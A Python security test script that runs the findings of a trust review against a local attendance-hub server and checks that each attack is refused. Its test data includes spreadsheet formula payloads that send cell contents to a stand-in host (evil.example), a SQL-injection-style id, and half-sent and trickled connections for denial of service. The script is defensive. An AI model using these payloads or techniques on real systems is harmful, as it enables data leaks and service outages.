#!/usr/bin/env python3
"""The hub under attack: each finding of the hub's trust review (issue 15) tried against a real
`rollcall-hub serve` process with the request that exploited it; each must be refused or harmless.

    tools/attack.py [--bin DIR]

Findings covered so far (the rest of the review is listed in README, "Trust model"):
  10. (the hub's part) a copy of the hub's database file holds no name and no template: the people's
     records are sealed with a key kept outside it;
  1. a door's token downloads only the people of its room's sessions and those its room lets in;
  2. facts recomputed: a check-in's status and minutes late are the hub's; check-ins off the roster,
     outside the check-in window, ahead of the hub's clock or too old, methods outside the enum,
     entries of people the room does not allow, and inflated exits are refused; a forged earlier
     "present" sent after a genuine "late" changes nothing;
  3. a device's huge minutes_late must not crash the hub when a report is read (it trapped every time);
  4. revocation: a removed device, a replaced device token, a revoked staff token and a removed badge
     key stop working with the next request (admin API and CLI);
  5. CSV formula injection: names, ids, groups, excuses and methods beginning with = + - @ in every CSV;
  6. event ids: a door that learns another door's event id and sends it first must not make the real
     event a "duplicate" (lost); an id that is not a UUID is rejected;
  7. denial of service: half-sent headers and trickled bodies are cut off after the idle timeout (60 s
     by default; 3 s here), connections are capped (a door is still answered), memory stays bounded,
     and a token over its rate gets 429 with Retry-After while others are answered;
  8. the admin token: never on the command line or in $ROLLCALL_HUB_ADMIN_TOKEN, at least 32
     characters, from a file others cannot read; the hub refuses to start otherwise;
  9. answers: no-store, no-referrer, nosniff on every answer, a restrictive CSP on HTML (the hub's own
     script only, no inline script), and a 500 that
     names nothing internal (that one in Tests/RollcallCLITests/HubInternalErrorTests.swift, which breaks
     the database under a real hub: a tool does not open the project's SQLite files).
Exits 1 if any check fails.
"""
import argparse
import csv
import io
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.request
import uuid
from datetime import datetime, timedelta, timezone

HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.dirname(HERE)
sys.path.insert(0, HERE)
import doorlab  # noqa: E402

FAILURES = []
SESSION = "s-attack-7b"
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(1+1)", "\t=1+1"]


def check(condition, what, detail=""):
    print(f"{'ok  ' if condition else 'FAIL'} {what}{(': ' + str(detail)[:400]) if detail and not condition else ''}",
          flush=True)
    if not condition:
        FAILURES.append(what)


def stamp(moment):
    return moment.strftime("%Y-%m-%dT%H:%M:%SZ")


def call(url, method="GET", token=None, body=None):
    """(status, headers, text); never raises for an HTTP status, None status when the hub did not answer."""
    data = json.dumps(body).encode() if body is not None else None
    headers = {"Content-Type": "application/json"}
    if token:
        headers["Authorization"] = f"Bearer {token}"
    request = urllib.request.Request(url, data=data, method=method, headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return response.status, response.headers, response.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, error.headers, error.read().decode()
    except (urllib.error.URLError, ConnectionError, socket.timeout) as error:
        return None, {}, str(error)


def provision(hub, now):
    """A room, the door, three students (two with formula names) in group '=7B'-like groups, a session running."""
    hub.admin("POST", "/rooms", {"id": "B12", "timezone": "UTC"})
    hub.admin("POST", "/devices", {"id": doorlab.DEVICE, "room": "B12", "token": doorlab.TOKEN})
    people = [("p-1", FORMULAS[0]), (FORMULAS[1], "Plain Name"), ("p-3", FORMULAS[3]), ("v-1", FORMULAS[2])]
    # Everyone with a face template (and the consent the hub requires for one), so that what a door may
    # download is decided by its room alone.
    face = {"templates": [{"encoding": [0.01] * 128}], "consent": doorlab.CONSENT}
    for person, name in people:
        role = "volunteer" if person == "v-1" else "student"
        hub.admin("POST", "/people", {"id": person, "name": name, "role": role,
                                      "groups": [] if role == "volunteer" else ["=7B"], **face})
    hub.admin("POST", "/people", {"id": "p-9", "name": "Not On Roster", "role": "student", "groups": ["8A"],
                                  **face})
    hub.admin("POST", "/people", {"id": "v-2", "name": "Other Room", "role": "volunteer", "groups": [], **face})
    hub.admin("PUT", "/rooms/B12/access", {"people": ["v-1"]})
    hub.admin("POST", "/sessions", {"room": "B12", "sessions": [{
        "id": SESSION, "group": "=7B", "start": stamp(now - timedelta(minutes=50)),
        "end": stamp(now - timedelta(minutes=5)), "roster": ["p-1", FORMULAS[1], "p-3"]}]})


def device_events(hub, events):
    return call(hub.url + "/api/v1/device/events", "POST", doorlab.TOKEN, {"events": events})


def attack_overflow(hub, now):
    """3. minutes_late near 2^63 from a device, then every report that sums it."""
    start = now - timedelta(minutes=50)
    events = [{"id": str(uuid.uuid4()), "kind": "checkin", "person": person, "session": SESSION,
               "at": stamp(start + timedelta(minutes=20)), "status": "late", "minutes_late": 2 ** 63 - 1,
               "method": FORMULAS[4] if person == "p-1" else "face", "source": "signage:door-b12"}
              for person in ["p-1", FORMULAS[1]]]
    status, _, text = device_events(hub, events)
    check(status is not None and status < 500, "3: a batch with minutes_late 2^63-1 is answered, not a crash",
          f"{status} {text}")
    window = "from=" + stamp(now - timedelta(days=1)) + "&to=" + stamp(now + timedelta(days=1))
    for path in [f"/api/v1/reports/sessions/{SESSION}", f"/api/v1/reports/sessions/{SESSION}?format=csv",
                 f"/api/v1/reports/sessions/{SESSION}/summary", f"/api/v1/reports/groups/%3D7B?{window}",
                 f"/api/v1/reports/groups/%3D7B?{window}&format=csv", f"/reports/groups/%3D7B?{window}"]:
        for attempt in range(2):  # read twice: a trap used to kill the hub on every read
            status, _, text = call(hub.url + path, token=doorlab.ADMIN)
            check(status is not None and status < 500, f"3: {path} (read {attempt + 1}) answers", f"{status} {text}")
    check(hub.process.poll() is None, "3: the hub process is still running after the reports were read")


def attack_at_rest(hub):
    """10. a copy of the hub's database file holds no name and no template without the key."""
    data = b"".join(open(path, "rb").read() for path in [hub.db, hub.db + "-wal"] if os.path.exists(path))
    check(len(data) > 0 and b"Plain Name" not in data and b"Not On Roster" not in data and b"Other Room" not in data,
          "10: the hub's database file (and its WAL) holds none of the people's names")
    key = hub.db + ".key"
    check(os.path.exists(key) and os.stat(key).st_mode & 0o777 == 0o600 and os.path.getsize(key) == 32,
          "10: the records' key is kept beside it, not in it, 32 bytes, readable by the hub's user only")


def attack_gallery(hub):
    """1. a door's token downloads only the people that door may recognise."""
    status, _, text = call(hub.url + "/api/v1/device/gallery?since=0", token=doorlab.TOKEN)
    ids = sorted(person["id"] for person in json.loads(text)["upserts"]) if status == 200 else []
    check(ids == sorted(["p-1", FORMULAS[1], "p-3", "v-1"]),
          "1: door B12 receives its session's roster and the volunteer its room lets in, nobody else", ids)
    other = "door-c3-token-" + uuid.uuid4().hex
    hub.admin("POST", "/rooms", {"id": "C3", "timezone": "UTC"})
    hub.admin("POST", "/devices", {"id": "door-c3", "room": "C3", "token": other})
    status, _, text = call(hub.url + "/api/v1/device/gallery?since=0", token=other)
    answer = json.loads(text) if status == 200 else {}
    check(status == 200 and answer.get("upserts") == [] and answer.get("reset") is True,
          "1: a door of a room with no session and no one let in receives no one (no name, no template)",
          f"{status} {text[:200]}")
    hub.admin("PUT", "/rooms/C3/access", {"people": ["v-2"]})
    status, _, text = call(hub.url + "/api/v1/device/gallery?since=0", token=other)
    ids = [person["id"] for person in json.loads(text)["upserts"]] if status == 200 else []
    check(ids == ["v-2"], "1: ... and once C3 lets a volunteer in, exactly that volunteer", ids)


def attack_ingest(hub, now):
    """2. the hub recomputes what a door says and refuses what it cannot be."""
    start = now - timedelta(minutes=50)

    def event(person, at, kind="checkin", method="face", **extra):
        body = {"id": str(uuid.uuid4()), "kind": kind, "person": person, "at": stamp(at), "method": method,
                "source": "signage:door-b12", **extra}
        if kind == "checkin":
            body.update({"session": SESSION, "status": "present", "minutes_late": 0})
        return body

    def verdict(body):
        status, _, text = device_events(hub, [body])
        answer = json.loads(text) if status == 200 else {}
        if answer.get("accepted") == [body["id"]]:
            return "accepted"
        reasons = [item["reason"] for item in answer.get("rejected", [])]
        return reasons[0] if reasons else f"{status} {text[:200]}"

    refused = [
        ("a check-in of someone not on the session's roster", event("p-9", start + timedelta(minutes=1)),
         "not on the roster"),
        ("a check-in 31 minutes before the session (check-in opens 30 before)",
         event("p-3", start - timedelta(minutes=31)), "outside session"),
        ("a check-in 10 minutes ahead of the hub's clock", event("p-3", now + timedelta(minutes=10)),
         "ahead of the hub's clock"),
        ("a check-in 40 days old", event("p-3", now - timedelta(days=40)), "days old"),
        ("a method outside the enum (sms)", event("p-3", start + timedelta(minutes=1), method="sms"),
         "not one of face, qr"),
        ("an entry of a volunteer the room does not allow", event("v-2", now - timedelta(minutes=3), "entry", "qr"),
         "not allowed in room B12"),
        ("an entry of a student", event("p-3", now - timedelta(minutes=3), "entry", "qr"), "is a student"),
        ("an exit claiming a 20-hour visit", event("v-1", now - timedelta(minutes=3), "exit", "qr",
                                                   entry_at=stamp(now - timedelta(hours=20)),
                                                   duration_seconds=72000), "a visit lasts"),
    ]
    for what, body, says in refused:
        answer = verdict(body)
        check(says in answer, f"2: refused: {what}", answer)
    forged = event("p-3", start + timedelta(minutes=30))
    check(verdict(forged) == "accepted", "2: a check-in sent as 'present, 0 minutes late' 30 minutes in is taken")
    status, _, text = call(hub.url + f"/api/v1/reports/sessions/{SESSION}", token=doorlab.ADMIN)
    line = next((line for line in json.loads(text)["lines"] if line["person"] == "p-3"), {}) if status == 200 else {}
    check(line.get("outcome") == "late" and line.get("minutes_late") == 30,
          "2: ... and the hub records it late by 30 minutes (its own verdict, not the door's)", line)
    earlier = event("p-3", start - timedelta(minutes=5))
    check(verdict(earlier) == "accepted", "2: a forged earlier 'present' sent afterwards is answered (kept as received)")
    status, _, text = call(hub.url + f"/api/v1/reports/sessions/{SESSION}", token=doorlab.ADMIN)
    line = next((line for line in json.loads(text)["lines"] if line["person"] == "p-3"), {}) if status == 200 else {}
    check(line.get("outcome") == "late" and line.get("minutes_late") == 30,
          "2: ... and changes nothing: the first check-in to arrive stands", line)
    status, _, _ = call(hub.url + "/api/v1/admin/rooms/B12/access", "PUT", doorlab.TOKEN, {"people": ["v-2"]})
    check(status in (401, 403), "2: a door's token cannot change who the room lets in", status)
    status, _, text = call(hub.url + "/api/v1/admin/rooms/B12/access", "PUT", doorlab.ADMIN, {"people": ["p-1"]})
    check(status == 400 and "student" in text, "2: a room's access list takes no students", f"{status} {text}")
    status, _, text = call(hub.url + "/api/v1/admin/rooms/B12/access", token=doorlab.ADMIN)
    check(status == 200 and json.loads(text) == {"people": ["v-1"]}, "2: the access list reads back unchanged", text)


def attack_revocation(hub, binary):
    """4. revoke what was leaked or stolen; effective on the next request."""
    manifest = hub.url + "/api/v1/device/manifest"
    stolen = "stolen-door-token-" + uuid.uuid4().hex
    hub.admin("POST", "/devices", {"id": "door-stolen", "room": "B12", "token": stolen})
    check(call(manifest, token=stolen)[0] == 200, "4: a door's token works before it is removed")
    status, _, text = call(hub.url + "/api/v1/admin/devices/door-stolen", "DELETE", doorlab.ADMIN)
    check(status == 200, "4: the admin removes the stolen door", f"{status} {text}")
    check(call(manifest, token=stolen)[0] == 401, "4: the removed door's token is refused on its next request")
    status, _, _ = call(hub.url + "/api/v1/admin/devices/door-stolen", "DELETE", doorlab.ADMIN)
    check(status == 404, "4: removing it again: 404", status)

    old, new = "leaked-door-token-" + uuid.uuid4().hex, "fresh-door-token-" + uuid.uuid4().hex
    hub.admin("POST", "/devices", {"id": "door-rotate", "room": "B12", "token": old})
    status, _, text = call(hub.url + "/api/v1/admin/devices/door-rotate/token", "PUT", doorlab.ADMIN, {"token": new})
    check(status == 200, "4: the admin replaces a leaked device token", f"{status} {text}")
    check(call(manifest, token=old)[0] == 401 and call(manifest, token=new)[0] == 200,
          "4: the old token is refused, the new one works")

    staff = "leaked-staff-token-" + uuid.uuid4().hex
    hub.admin("POST", "/tokens", {"token": staff, "scope": "staff", "label": "leaked laptop"})
    report = hub.url + f"/api/v1/reports/sessions/{SESSION}"
    check(call(report, token=staff)[0] == 200, "4: a staff token works before it is revoked")
    status, _, text = call(hub.url + "/api/v1/admin/tokens", token=doorlab.ADMIN)
    tokens = json.loads(text) if status == 200 else []
    check(status == 200 and staff not in text and all(len(t.get("id", "")) == 16 for t in tokens),
          "4: the token list shows ids and labels, never a token", text)
    ids = [t["id"] for t in tokens if t.get("label") == "leaked laptop"]
    status, _, text = call(hub.url + f"/api/v1/admin/tokens/{ids[0] if ids else 'none'}", "DELETE", doorlab.ADMIN)
    check(status == 200, "4: the admin revokes the staff token by its id", f"{status} {text}")
    check(call(report, token=staff)[0] == 401, "4: the revoked staff token is refused on its next request")

    key = "A" * 43
    hub.admin("POST", "/badge-keys", {"kid": "k-attack", "public_key": key})
    status, _, text = call(hub.url + "/api/v1/device/badge-keys", token=doorlab.TOKEN)
    before = json.loads(text) if status == 200 else {}
    status, _, text = call(hub.url + "/api/v1/admin/badge-keys/k-attack", "DELETE", doorlab.ADMIN)
    check(status == 200, "4: the admin removes a badge key", f"{status} {text}")
    status, _, text = call(hub.url + "/api/v1/device/badge-keys", token=doorlab.TOKEN)
    after = json.loads(text) if status == 200 else {}
    check("k-attack" in json.dumps(before) and "k-attack" not in json.dumps(after)
          and after.get("version", 0) > before.get("version", 0),
          "4: the doors' key list no longer has it, under a new version", f"{before} -> {after}")

    # From the hub's machine, on its database, while it runs.
    cli = "cli-door-token-" + uuid.uuid4().hex
    hub.admin("POST", "/devices", {"id": "door-cli", "room": "B12", "token": cli})
    done = subprocess.run([binary, "device", "remove", "door-cli", "--db", hub.db], capture_output=True, text=True)
    check(done.returncode == 0 and call(manifest, token=cli)[0] == 401,
          "4: `rollcall-hub device remove` on the running hub's database: the token is refused",
          done.stdout + done.stderr)
    listed = subprocess.run([binary, "token", "list", "--db", hub.db], capture_output=True, text=True)
    check(listed.returncode == 0 and staff not in listed.stdout, "4: `rollcall-hub token list` shows no token",
          listed.stdout + listed.stderr)


def formula_cells(text):
    """The cells of a CSV document that a spreadsheet would run as a formula."""
    bad = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            lead = cell.lstrip(" ")
            if cell[:1] in ("\t", "\r") or (lead[:1] in ("=", "+", "@")) or (lead[:1] == "-" and not is_number(lead)):
                bad.append(cell)
    return bad


def is_number(text):
    try:
        float(text)
        return True
    except ValueError:
        return False


def attack_csv(hub, now):
    """5. formula cells in every CSV the hub writes."""
    status, _, text = call(hub.url + f"/api/v1/staff/sessions/{SESSION}/excuses", "PUT", doorlab.ADMIN,
                           {"person": "p-3", "reason": "=IMPORTXML(CONCAT(\"http://evil.example/\",A2),\"//a\")"})
    check(status == 200, "5: staff set an excuse whose reason is a formula", f"{status} {text}")
    entry = now - timedelta(hours=3)
    events = [{"id": str(uuid.uuid4()), "kind": "entry", "person": "v-1", "at": stamp(entry), "method": "qr",
               "source": "signage:door-b12"},
              {"id": str(uuid.uuid4()), "kind": "exit", "person": "v-1", "at": stamp(entry + timedelta(hours=1)),
               "entry_at": stamp(entry), "duration_seconds": 3600, "method": "qr", "source": "signage:door-b12"}]
    status, _, text = device_events(hub, events)
    check(status == 200, "5: the volunteer's visit is stored", f"{status} {text}")
    window = "from=" + stamp(now - timedelta(days=1)) + "&to=" + stamp(now + timedelta(days=1))
    for path in [f"/api/v1/reports/sessions/{SESSION}?format=csv", f"/api/v1/reports/groups/%3D7B?{window}&format=csv",
                 f"/api/v1/reports/volunteers?{window}&format=csv"]:
        status, _, text = call(hub.url + path, token=doorlab.ADMIN)
        rows = list(csv.reader(io.StringIO(text))) if status == 200 else []
        check(status == 200 and len(rows) >= 2, f"5: {path} is a CSV with lines", f"{status} {text}")
        bad = formula_cells(text)
        check(not bad, f"5: {path} has no cell a spreadsheet would run", bad)
    # The values are kept, only neutralised: the name is still there, after the quote.
    status, _, text = call(hub.url + f"/api/v1/reports/sessions/{SESSION}?format=csv", token=doorlab.ADMIN)
    check(("'" + FORMULAS[0]) in next(iter([c for row in csv.reader(io.StringIO(text)) for c in row
                                             if FORMULAS[0] in c]), ""),
          "5: a neutralised cell keeps its text after a leading '", text)


def attack_event_ids(hub, now):
    """6. another door sends a stolen event id first; then the real door sends its event with that id."""
    other_token = "second-door-token-" + uuid.uuid4().hex
    hub.admin("POST", "/devices", {"id": "door-b12-2", "room": "B12", "token": other_token})
    stolen = str(uuid.uuid4())
    at = stamp(now - timedelta(minutes=45))
    forged = {"id": stolen, "kind": "checkin", "person": "p-3", "session": SESSION, "at": at, "status": "present",
              "minutes_late": 0, "method": "face", "source": "signage:door-b12-2"}
    status, _, text = call(hub.url + "/api/v1/device/events", "POST", other_token, {"events": [forged]})
    check(status == 200, "6: the other door's batch is answered", f"{status} {text}")
    real = {**forged, "person": "p-1", "source": "signage:door-b12"}
    status, _, text = device_events(hub, [real])
    answer = json.loads(text) if status == 200 else {}
    check(answer.get("accepted") == [stolen], "6: the real door's event with the same id is accepted, not a duplicate",
          f"{status} {text}")
    status, _, text = device_events(hub, [real])
    answer = json.loads(text) if status == 200 else {}
    check(answer.get("duplicate") == [stolen], "6: the real door sending it again is a duplicate", f"{status} {text}")
    for bad in ["not-a-uuid", "", "' OR 1=1 --", "x" * 5000]:
        status, _, text = device_events(hub, [{**real, "id": bad}])
        answer = json.loads(text) if status == 200 else {}
        rejected = [r.get("id") for r in answer.get("rejected", [])]
        check(status == 400 or rejected == [bad], f"6: the id {bad[:20]!r} is rejected", f"{status} {text[:200]}")


def start(binary, db, args, env=None):
    """`serve` with extra arguments: (process, first line or the error)."""
    port = doorlab.free_port()
    process = subprocess.Popen([binary, "serve", "--db", db, "--port", str(port), *args],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                               env={**os.environ, **(env or {})})
    try:
        out, err = process.communicate(timeout=5)
        return process, (out + err).strip(), port
    except subprocess.TimeoutExpired:
        return process, "running", port


def attack_admin_token(binary, work):
    """8. the admin token's sources and strength, with the real binary."""
    db = os.path.join(work, "token.sqlite")
    good = os.path.join(work, "admin-token")
    token = "t0k3n-" + uuid.uuid4().hex  # 38 characters
    with open(os.open(good, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600), "w") as handle:
        handle.write(token + "\n")
    short = os.path.join(work, "short-token")
    with open(os.open(short, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600), "w") as handle:
        handle.write("letmein\n")
    shared = os.path.join(work, "shared-token")
    shutil.copy(good, shared)
    os.chmod(shared, 0o644)
    refused = [
        ("--admin-token on the command line (ps shows it)", ["--admin-token", token], None),
        ("an empty ROLLCALL_HUB_ADMIN_TOKEN", [], {"ROLLCALL_HUB_ADMIN_TOKEN": ""}),
        ("ROLLCALL_HUB_ADMIN_TOKEN in the environment", [], {"ROLLCALL_HUB_ADMIN_TOKEN": token}),
        ("a 7-character token file", ["--admin-token-file", short], None),
        ("a token file every user can read", ["--admin-token-file", shared], None),
        ("a token file that is not there", ["--admin-token-file", good + ".missing"], None),
    ]
    for what, args, env in refused:
        process, output, _ = start(binary, db, args, env)
        if output == "running":
            process.kill()
            process.wait()
        check(process.returncode == 78 and "listening" not in output, f"8: refuses to start with {what} (exit 78)",
              f"exit {process.returncode}: {output}")
    cli = subprocess.run([binary, "token", "add", "staff-token-on-the-command-line", "--scope", "staff",
                          "--label", "ps", "--db", db], capture_output=True, text=True)
    check(cli.returncode != 0 and "shows in ps" in cli.stderr,
          "8: rollcall-hub token add refuses a token on the command line (it reads --token-file)",
          f"exit {cli.returncode}: {cli.stderr.strip()}")
    process, output, port = start(binary, db, ["--admin-token-file", good])
    try:
        check(output == "running", "8: starts with a 38-character token file (0600)", output)
        time.sleep(0.5)
        url = f"http://127.0.0.1:{port}/api/v1/admin/rooms"
        status, _, _ = call(url, "POST", token, {"id": "R1", "timezone": "UTC"})
        check(status == 200, "8: the admin API takes that token", status)
        for guess in ["", token[:-1], token + "x", token.upper()]:
            status, _, _ = call(url, "POST", guess or None, {"id": "R2", "timezone": "UTC"})
            check(status == 401, f"8: a wrong admin token ({len(guess)} characters) gets 401", status)
        with open(f"/proc/{process.pid}/cmdline", "rb") as handle:
            check(token.encode() not in handle.read(), "8: the token is not on the hub's command line")
    finally:
        process.terminate()
        process.wait(timeout=10)


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as handle:
        return next(int(line.split()[1]) for line in handle if line.startswith("VmRSS:"))


def closed_by_peer(sock, deadline):
    """Waits until the hub closes `sock` (EOF or reset) or `deadline` passes; True if it closed."""
    while time.monotonic() < deadline:
        sock.settimeout(max(0.05, deadline - time.monotonic()))
        try:
            if sock.recv(4096) == b"":
                return True
        except socket.timeout:
            return False
        except OSError:
            return True
    return False


def attack_dos(binary, work):
    """7. half-sent requests, a trickled body, more connections than the cap, a flood from one token."""
    out = subprocess.run([binary, "serve", "--help"], capture_output=True, text=True).stdout
    check("--idle-timeout-seconds" in out and "(default: 60)" in " ".join(out.split("--idle-timeout-seconds")[-1].split())[:200],
          "7: idle and half-sent connections are closed after 60 s by default")
    db = os.path.join(work, "dos.sqlite")
    token_file = os.path.join(work, "dos-admin-token")
    with open(os.open(token_file, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600), "w") as handle:
        handle.write(doorlab.ADMIN + "\n")
    port = doorlab.free_port()
    log = open(os.path.join(work, "dos.log"), "w")
    process = subprocess.Popen(
        [binary, "serve", "--db", db, "--port", str(port), "--admin-token-file", token_file,
         "--idle-timeout-seconds", "3", "--max-connections", "8", "--rate-limit", "5", "--rate-burst", "10"],
        stdout=subprocess.PIPE, stderr=log, text=True)
    url = f"http://127.0.0.1:{port}"
    try:
        check("listening on" in process.stdout.readline(), "7: a hub with a 3 s timeout, 8 connections, 5 requests/s")
        call(url + "/api/v1/admin/rooms", "POST", doorlab.ADMIN, {"id": "B12", "timezone": "UTC"})
        call(url + "/api/v1/admin/devices", "POST", doorlab.ADMIN, {"id": "door-b12", "room": "B12",
                                                                   "token": doorlab.TOKEN})
        before = rss_kib(process.pid)
        # Six connections that send half a request's headers and stop: a door is answered meanwhile,
        # and the hub closes them after its timeout.
        def half_sent(count):
            opened = []
            for _ in range(count):
                sock = socket.create_connection(("127.0.0.1", port), timeout=5)
                sock.sendall(b"GET /api/v1/device/manifest HTTP/1.1\r\nHost: hub\r\nAuthorization: Bearer ")
                opened.append(sock)
            return opened
        sockets = half_sent(6)
        began = time.monotonic()
        status, _, _ = call(url + "/api/v1/device/manifest", token=doorlab.TOKEN)
        check(status == 200 and time.monotonic() - began < 2.5,
              "7: a door is answered at once while half-sent requests are open",
              f"{status} after {time.monotonic() - began:.1f} s")
        closed = sum(closed_by_peer(sock, began + 20) for sock in sockets)
        check(closed == 6 and time.monotonic() - began < 15, "7: the hub closes half-sent requests after its timeout",
              f"{closed} of 6 closed after {time.monotonic() - began:.1f} s")
        for sock in sockets:
            sock.close()
        # 64 of them, 8 times the cap: the hub takes 8 at a time, so they are closed in 8 rounds of 3 s.
        sockets = half_sent(64)
        began = time.monotonic()
        closed = sum(closed_by_peer(sock, began + 150) for sock in sockets)
        took = time.monotonic() - began
        check(closed == 64 and 15 <= took < 120,
              f"7: 64 half-sent connections: 8 open at once (the cap), all closed by the hub, in {took:.0f} s",
              f"{closed} closed in {took:.1f} s")
        for sock in sockets:
            sock.close()
        status, _, _ = call(url + "/api/v1/device/manifest", token=doorlab.TOKEN)
        check(status == 200, "7: and the door is answered again", status)
        # A body sent a byte a second: the request is not done 3 s after its headers, so it is cut.
        sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        sock.sendall(b"POST /api/v1/device/events HTTP/1.1\r\nHost: hub\r\nAuthorization: Bearer "
                     + doorlab.TOKEN.encode() + b"\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n")
        began, cut = time.monotonic(), False
        while time.monotonic() - began < 30:
            try:
                sock.sendall(b" ")
            except OSError:
                cut = True
                break
            if closed_by_peer(sock, time.monotonic() + 1):
                cut = True
                break
        check(cut and time.monotonic() - began < 20,
              "7: a body trickled a byte a second is cut off within the timeout",
              f"after {time.monotonic() - began:.1f} s")
        sock.close()
        after = rss_kib(process.pid)
        check(after - before < 64 * 1024, "7: the hub's memory stays bounded through it",
              f"{before // 1024} MiB before, {after // 1024} MiB after")
        # One token floods: 429 with Retry-After; another token is not held up; after the wait it works.
        statuses, retry, problem = [], None, {}
        for _ in range(300):
            status, headers, text = call(url + "/api/v1/device/manifest", token=doorlab.TOKEN)
            statuses.append(status)
            if status == 429:
                retry = headers.get("Retry-After")
                problem = json.loads(text)
                break
        check(statuses.count(200) >= 10 and statuses[-1] == 429 and set(statuses) <= {200, 429},
              f"7: one token's requests as fast as they go: the burst of 10 and more answered, then 429 "
              f"(after {len(statuses) - 1})", statuses[-5:])
        check(retry is not None and retry.isdigit() and int(retry) >= 1 and problem.get("error") == "too_many_requests",
              "7: a 429 carries Retry-After in whole seconds and an APIProblem", f"{retry} {problem}")
        status, _, _ = call(url + "/api/v1/admin/rooms/B12/access", token=doorlab.ADMIN)
        check(status == 200, "7: another token is answered meanwhile", status)
        time.sleep(int(retry or 1) + 0.2)
        status, _, _ = call(url + "/api/v1/device/manifest", token=doorlab.TOKEN)
        check(status == 200, "7: after Retry-After the door is answered again", status)
        check(process.poll() is None, "7: the hub is still running")
    finally:
        process.terminate()
        process.wait(timeout=10)
        log.close()


def attack_answers(hub, now):
    """9. headers on every answer, CSP on HTML, and a 500 that shows nothing internal."""
    window = "from=" + stamp(now - timedelta(days=1)) + "&to=" + stamp(now + timedelta(days=1))
    answers = {
        "manifest": call(hub.url + "/api/v1/device/manifest", token=doorlab.TOKEN),
        "gallery": call(hub.url + "/api/v1/device/gallery?since=0", token=doorlab.TOKEN),
        "report json": call(hub.url + f"/api/v1/reports/sessions/{SESSION}", token=doorlab.ADMIN),
        "report csv": call(hub.url + f"/api/v1/reports/sessions/{SESSION}?format=csv", token=doorlab.ADMIN),
        "sign-in page": call(hub.url + "/sign-in"),
        "no token": call(hub.url + "/api/v1/device/manifest"),
        "no route": call(hub.url + "/wp-admin/"),
    }
    for what, (status, headers, _) in answers.items():
        check(status is not None and headers.get("Cache-Control") == "no-store"
              and headers.get("X-Content-Type-Options") == "nosniff"
              and headers.get("Referrer-Policy") == "no-referrer",
              f"9: {what} ({status}) carries no-store, nosniff and no-referrer", dict(headers or {}))
    status, headers, text = answers["sign-in page"]
    policy = headers.get("Content-Security-Policy", "") if headers else ""
    scripts = next((part.strip() for part in policy.split(";") if part.strip().startswith("script-src")), "")
    check(status == 200 and "default-src 'none'" in policy and "frame-ancestors 'none'" in policy
          and scripts == "script-src 'self'" and "form-action 'self'" in policy and "connect-src 'self'" in policy,
          "9: the HTML page has a CSP allowing only the hub's own script, requests and forms, no frame", policy)
    # A 500 that names nothing internal (the database broken underneath a running `rollcall-hub serve`) is
    # tried by the Swift suite, which may open the hub's database to break it and a tool may not:
    # Tests/RollcallCLITests/HubInternalErrorTests.swift.
    status, _, _ = call(hub.url + "/api/v1/device/manifest", token=doorlab.TOKEN)
    check(status == 200 and hub.process.poll() is None, "9: and the hub goes on answering", status)

def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--bin", default=os.path.join(REPO, ".build", "debug"))
    options = parser.parse_args()
    binary = os.path.join(options.bin, "rollcall-hub")
    if not os.access(binary, os.X_OK):
        sys.exit(f"attack: no {binary}: build it with `swift build --product rollcall-hub`")
    work = tempfile.mkdtemp(prefix="rollcall-attack-")
    now = datetime.now(timezone.utc).replace(microsecond=0)
    hub = doorlab.Hub(binary, os.path.join(work, "hub.sqlite"))
    try:
        hub.process = None
        hub.start()
        provision(hub, now)
        attack_at_rest(hub)
        attack_gallery(hub)
        attack_overflow(hub, now)
        attack_ingest(hub, now)
        attack_csv(hub, now)
        attack_event_ids(hub, now)
        attack_revocation(hub, binary)
        attack_admin_token(binary, work)
        attack_dos(binary, work)
        attack_answers(hub, now)
    finally:
        hub.stop()
        shutil.rmtree(work, ignore_errors=True)
    if FAILURES:
        print(f"attack: {len(FAILURES)} checks failed", file=sys.stderr)
        sys.exit(1)
    print("attack: every attack was refused or harmless")


if __name__ == "__main__":
    main()
